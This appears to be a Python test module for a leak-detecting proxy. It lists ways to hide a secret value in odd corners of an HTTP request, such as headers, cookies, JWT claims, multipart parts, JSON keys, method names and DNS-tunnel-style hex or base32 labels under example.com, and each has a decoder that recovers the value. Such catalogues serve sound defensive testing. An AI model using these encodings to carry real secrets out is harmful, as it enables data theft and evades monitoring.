"""Corners of a request where nobody expects a value."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from urllib.parse import quote, unquote, unquote_plus

from proxy.cli.evasions.carriers import BOUNDARY
from proxy.cli.evasions.encodings import b64, un64, url64
from proxy.cli.evasions.model import Family, Place, Request, Secret, Technique, placed
from proxy.core.message import Headers

PLC = Family.PLACES
_MULTI = f"multipart/form-data; boundary={BOUNDARY}"
Ways = tuple[Callable[[Secret], Request], Callable[[Request], str]]


def path(form: str, *, coding: Callable[[str], str] = lambda text: quote(text, safe="")) -> Ways:
    """In the target; `form` has `{v}`."""
    before, _, after = form.partition("{v}")

    def send(secret: Secret) -> Request:
        start = before.format(key=secret.key)
        return Request(path=(start + coding(secret.value) + after).encode(), method="GET")

    def receive(request: Request) -> str:
        target = request.path.decode()
        return unquote_plus(target[: len(target) - len(after)] if after else target)

    return send, receive


def header(name: str, form: str, read: Callable[[str], str] = lambda text: text) -> Ways:
    """In a header field; `form` has `{v}` and may have `{key}`."""

    def send(secret: Secret) -> Request:
        value = form.format(v=secret.value, key=secret.key, k=secret.key.replace("_", "-"))
        return Request(headers=((name.encode(), value.encode()),), method="GET")

    return send, lambda request: read(request.headers[0][1].decode())


def _named(secret: Secret) -> Request:
    """The value is the field's name."""
    name = f"X-{secret.key.replace('_', '-')}-{secret.value.replace('(', '-').replace(')', '')}"
    return Request(headers=((name.encode(), b"1"),), method="GET")


def _name_read(request: Request) -> str:
    # brackets may not stand in a field's name: the receiver knows an HKID by its shape
    last = request.headers[0][0].decode().rsplit("-", 2)
    return last[-1] if len(last[-1]) > 1 else f"{last[-2]}({last[-1]})"


def _basic(secret: Secret) -> Request:
    return Request(headers=((b"Authorization", f"Basic {b64(f'{secret.value}:{secret.key}')}".encode()),), method="GET")


def _basic_read(request: Request) -> str:
    return un64(request.header(b"authorization").removeprefix("Basic ")).partition(":")[0]


def part(head: str, body: str = "x", read: Callable[[str], str] = lambda text: text) -> Ways:
    """One part of a multipart body; `head` and `body` have `{v}`."""

    def send(secret: Secret) -> Request:
        fill = {"v": secret.value, "key": secret.key, "b64": b64(secret.value), "pct": quote(secret.value, safe="")}
        text = f"--{BOUNDARY}\r\n{head.format(**fill)}\r\n\r\n{body.format(**fill)}\r\n--{BOUNDARY}--\r\n"
        return Request(text.encode(), _MULTI)

    return send, lambda request: read(request.text)


def _between(first: str, last: str, then: Callable[[str], str] = lambda text: text) -> Callable[[str], str]:
    return lambda text: then(text.partition(first)[2].partition(last)[0])


def _json_key(secret: Secret) -> Request:
    return Request(json.dumps({secret.key: {secret.value: True}}).encode(), "application/json")


def _form_name(secret: Secret) -> Request:
    return Request(f"{quote(secret.value, safe='')}=1&kind={secret.key}".encode(), "application/x-www-form-urlencoded")


def _csv_heading(secret: Secret) -> Request:
    return Request(f"no,{secret.key} {secret.value},x\r\n1,2,3\r\n".encode(), "text/csv")


def _xml_name(secret: Secret) -> Request:
    name = f"{secret.key}_{secret.value}".replace("(", ".").replace(")", "")
    return Request(f"<r><{name}/></r>".encode(), "text/xml")


def _xml_name_read(request: Request) -> str:
    name = request.text[4:-6].rpartition("_")[2]
    return re.sub(r"\.(.)$", r"(\1)", name)


def _labels(code: Callable[[str], str], decode: Callable[[str], str]) -> Ways:
    """A name to be looked up, as DNS tunnels make it; 63 characters a label."""

    def send(secret: Secret) -> Request:
        name = code(f"{secret.key} {secret.value}")
        labels = ".".join(name[at : at + 50] for at in range(0, len(name), 50))
        return Request(b"{}", "application/json", host=f"{labels}.t.example.com")

    return send, lambda request: decode(request.host.removesuffix(".t.example.com").replace(".", ""))


def _plain_labels(secret: Secret) -> Request:
    name = secret.value.replace("(", "-").replace(")", "").lower()
    return Request(b"{}", "application/json", host=f"{name}.{secret.key.replace('_', '-')}.example.com")


def _plain_read(request: Request) -> str:
    return re.sub(r"-(.)$", r"(\1)", request.host.partition(".")[0]).upper()


def _trailers(secret: Secret) -> Request:
    trailers: Headers = ((b"X-" + secret.key.replace("_", "-").encode(), secret.value.encode()),)
    return Request(b"{}", "application/json", ((b"Trailer", trailers[0][0]),), trailers=trailers)


def _method(secret: Secret) -> Request:
    return Request(method=f"PUT{re.sub('[^0-9A-Z]', '', secret.value)}", path=f"/{secret.key}".encode())


def _digits(secret: Secret) -> bool:
    return secret.value.isdecimal()


def _b32(text: str) -> str:
    return base64.b32encode(text.encode()).decode().rstrip("=").lower()


def _unb32(text: str) -> str:
    return base64.b32decode(text.upper() + "=" * (-len(text) % 8)).decode()


_PDF = 'Content-Disposition: form-data; name="f"; filename={}\r\nContent-Type: application/octet-stream'
_FIELD = 'Content-Disposition: form-data; name="f"'

TECHNIQUES: tuple[Technique, ...] = (
    placed(
        "path segment",
        PLC,
        "reads the path",
        [
            Place("last", *path("/{key}/{v}")),
            Place("middle", *path("/u/{key}/{v}/view")),
            Place("file name", *path("/f/{key}-{v}.json")),
        ],
    ),
    placed("path parameter", PLC, "reads what follows the semicolon", [Place("matrix", *path("/u;{key}={v}/view"))]),
    placed(
        "coded path",
        PLC,
        "decodes the segment",
        [
            Place(
                "base64url", *(path("/d/{v}", coding=url64)[0], lambda r: un64(unquote(r.path.decode().split("/")[2])))
            ),
            Place(
                "hex",
                *(
                    path("/d/{v}", coding=lambda t: t.encode().hex())[0],
                    lambda r: bytes.fromhex(r.path.decode().split("/")[2]).decode(),
                ),
            ),
            Place(
                "every byte in percent", *path("/{key}/{v}", coding=lambda t: "".join(f"%{b:02x}" for b in t.encode()))
            ),
        ],
        lambda secret: secret.digits and secret.proves,
    ),
    placed(
        "name in the query",
        PLC,
        "reads the names",
        [Place("name", *path("/t?kind={key}&{v}=1")), Place("bare", *path("/t?{key}&{v}"))],
    ),
    placed(
        "value in the query",
        PLC,
        "reads the query",
        [
            Place("value", *path("/t?{key}={v}")),
            Place("JSON", *path("/t?q=%7B%22{key}%22:%22{v}%22%7D")),
            Place("array", *path("/t?{key}[]={v}&x=1")),
        ],
    ),
    placed("fragment", PLC, "reads what follows #", [Place("fragment", *path("/page#{key}={v}"))]),
    placed(
        "custom header",
        PLC,
        "reads the field",
        [
            Place("X-", *header("X-Ref", "{key}={v}")),
            Place("Accept-Language", *header("Accept-Language", "zh; q=0.9; {key}={v}")),
            Place("If-None-Match", *header("If-None-Match", '"{key}-{v}"')),
            Place("Via", *header("X-Forwarded-Host", "{key}.{v}")),
        ],
    ),
    placed(
        "coded header",
        PLC,
        "decodes the field",
        [
            Place(
                "base64",
                lambda s: Request(headers=((b"X-Trace", b64(f"{s.key}: {s.value}").encode()),)),
                lambda r: un64(r.header(b"x-trace")),
            ),
            Place(
                "JSON",
                lambda s: Request(headers=((b"X-Context", json.dumps({s.key: s.value}).encode()),)),
                lambda r: r.header(b"x-context"),
            ),
        ],
    ),
    placed("name of a header", PLC, "reads the names", [Place("name", _named, _name_read)]),
    placed(
        "cookie",
        PLC,
        "reads the cookies",
        [
            Place("value", *header("Cookie", "a=1; {key}={v}")),
            Place("name", *header("Cookie", "{key}={v}")),
            Place(
                "base64",
                lambda s: Request(headers=((b"Cookie", f"s={url64(json.dumps({s.key: s.value}))}".encode()),)),
                lambda r: un64(r.header(b"cookie")[2:]),
            ),
        ],
    ),
    placed(
        "User-Agent",
        PLC,
        "reads the field",
        [
            Place("comment", *header("User-Agent", "Mozilla/5.0 ({key}: {v})")),
            Place("product", *header("User-Agent", "{key}/{v}")),
        ],
    ),
    placed(
        "Referer",
        PLC,
        "reads the field",
        [
            Place("query", *header("Referer", "https://example.com/p?{key}={v}")),
            Place("path", *header("Referer", "https://example.com/{key}/{v}")),
        ],
    ),
    placed(
        "user name of basic authentication",
        PLC,
        "decodes the credentials",
        [Place("Authorization", _basic, _basic_read)],
        lambda s: s.digits and s.proves,
    ),
    placed(
        "bearer token",
        PLC,
        "reads the claims",
        [
            Place(
                "JWT",
                lambda s: Request(
                    headers=(
                        (
                            b"Authorization",
                            f"Bearer e30.{url64(json.dumps({s.key: s.value})).rstrip('=')}.c2ln".encode(),
                        ),
                    )
                ),
                lambda r: un64(r.header(b"authorization").split(".")[1]),
            )
        ],
    ),
    placed(
        "file name of a part",
        PLC,
        "reads the file name",
        [
            Place("filename", *part(_PDF.format('"{key}_{v}.pdf"'))),
            Place("filename*", *part(_PDF.format("\"x\"; filename*=UTF-8''{key}%20{pct}.pdf"), read=unquote)),
            Place("encoded word", *part(_PDF.format('"=?utf-8?B?{b64}?="'), read=_between("B?", "?=", un64))),
        ],
        lambda s: s.digits and s.proves,
    ),
    placed(
        "name of a part",
        PLC,
        "reads the names",
        [Place("name", *part('Content-Disposition: form-data; name="{key} {v}"'))],
    ),
    placed(
        "header of a part",
        PLC,
        "reads the part's header",
        [
            Place("Content-Description", *part(_FIELD + "\r\nContent-Description: {key} {v}")),
            Place("Content-ID", *part(_FIELD + "\r\nContent-ID: <{key}.{v}@x>")),
            Place("parameter", *part(_FIELD + '; {key}="{v}"')),
        ],
    ),
    placed(
        "before and behind the parts",
        PLC,
        "reads what other readers skip",
        [
            Place(
                "preamble",
                lambda s: Request(
                    f"{s.key}: {s.value}\r\n--{BOUNDARY}\r\n{_FIELD}\r\n\r\nx\r\n--{BOUNDARY}--\r\n".encode(), _MULTI
                ),
                lambda r: r.text,
            ),
            Place(
                "epilogue",
                lambda s: Request(
                    f"--{BOUNDARY}\r\n{_FIELD}\r\n\r\nx\r\n--{BOUNDARY}--\r\n{s.key}: {s.value}\r\n".encode(), _MULTI
                ),
                lambda r: r.text,
            ),
        ],
    ),
    placed(
        "transfer encoding of a part",
        PLC,
        "decodes the part",
        [
            Place(
                "base64",
                *part(
                    _FIELD + "\r\nContent-Transfer-Encoding: base64",
                    "{b64}",
                    _between("base64\r\n\r\n", "\r\n--", un64),
                ),
            ),
            Place(
                "called 8bit",
                *part(
                    _FIELD + "\r\nContent-Transfer-Encoding: 8bit", "{b64}", _between("8bit\r\n\r\n", "\r\n--", un64)
                ),
            ),
        ],
        lambda s: s.digits and s.proves,
    ),
    placed(
        "parameter of Content-Type",
        PLC,
        "reads the parameter",
        [
            Place(
                "parameter",
                lambda s: Request(b"{}", f'application/json; {s.key}="{s.value}"'),
                lambda r: r.content_type,
            ),
            Place(
                "boundary",
                lambda s: Request(
                    f"--{re.sub('[()]', '', s.value)}--\r\n".encode(),
                    f"multipart/mixed; boundary={re.sub('[()]', '', s.value)}",
                ),
                lambda r: r.content_type,
            ),
        ],
        _digits,
    ),
    placed(
        "key of a JSON object",
        PLC,
        "reads the keys",
        [Place("key", _json_key, lambda r: next(iter(next(iter(json.loads(r.body).values())))))],
    ),
    placed(
        "name of a form field",
        PLC,
        "reads the names",
        [Place("name", _form_name, lambda r: unquote(r.text.partition("=")[0]))],
    ),
    placed("heading of a column", PLC, "reads the heading", [Place("CSV", _csv_heading, lambda r: r.text)]),
    placed("name of an element", PLC, "reads the names", [Place("XML", _xml_name, _xml_name_read)]),
    placed(
        "name to be looked up", PLC, "runs the name server of the domain", [Place("plain", _plain_labels, _plain_read)]
    ),
    placed(
        "coded name to be looked up",
        PLC,
        "decodes the labels",
        [
            Place("hex", *_labels(lambda t: t.encode().hex(), lambda t: bytes.fromhex(t).decode())),
            Place("base32", *_labels(_b32, _unb32)),
        ],
    ),
    placed(
        "trailer",
        PLC,
        "reads the trailers of the chunked body",
        [Place("trailer", _trailers, lambda r: r.trailers[0][1].decode())],
    ),
    placed("method", PLC, "reads the method", [Place("method", _method, lambda r: r.method[3:])], _digits),
)
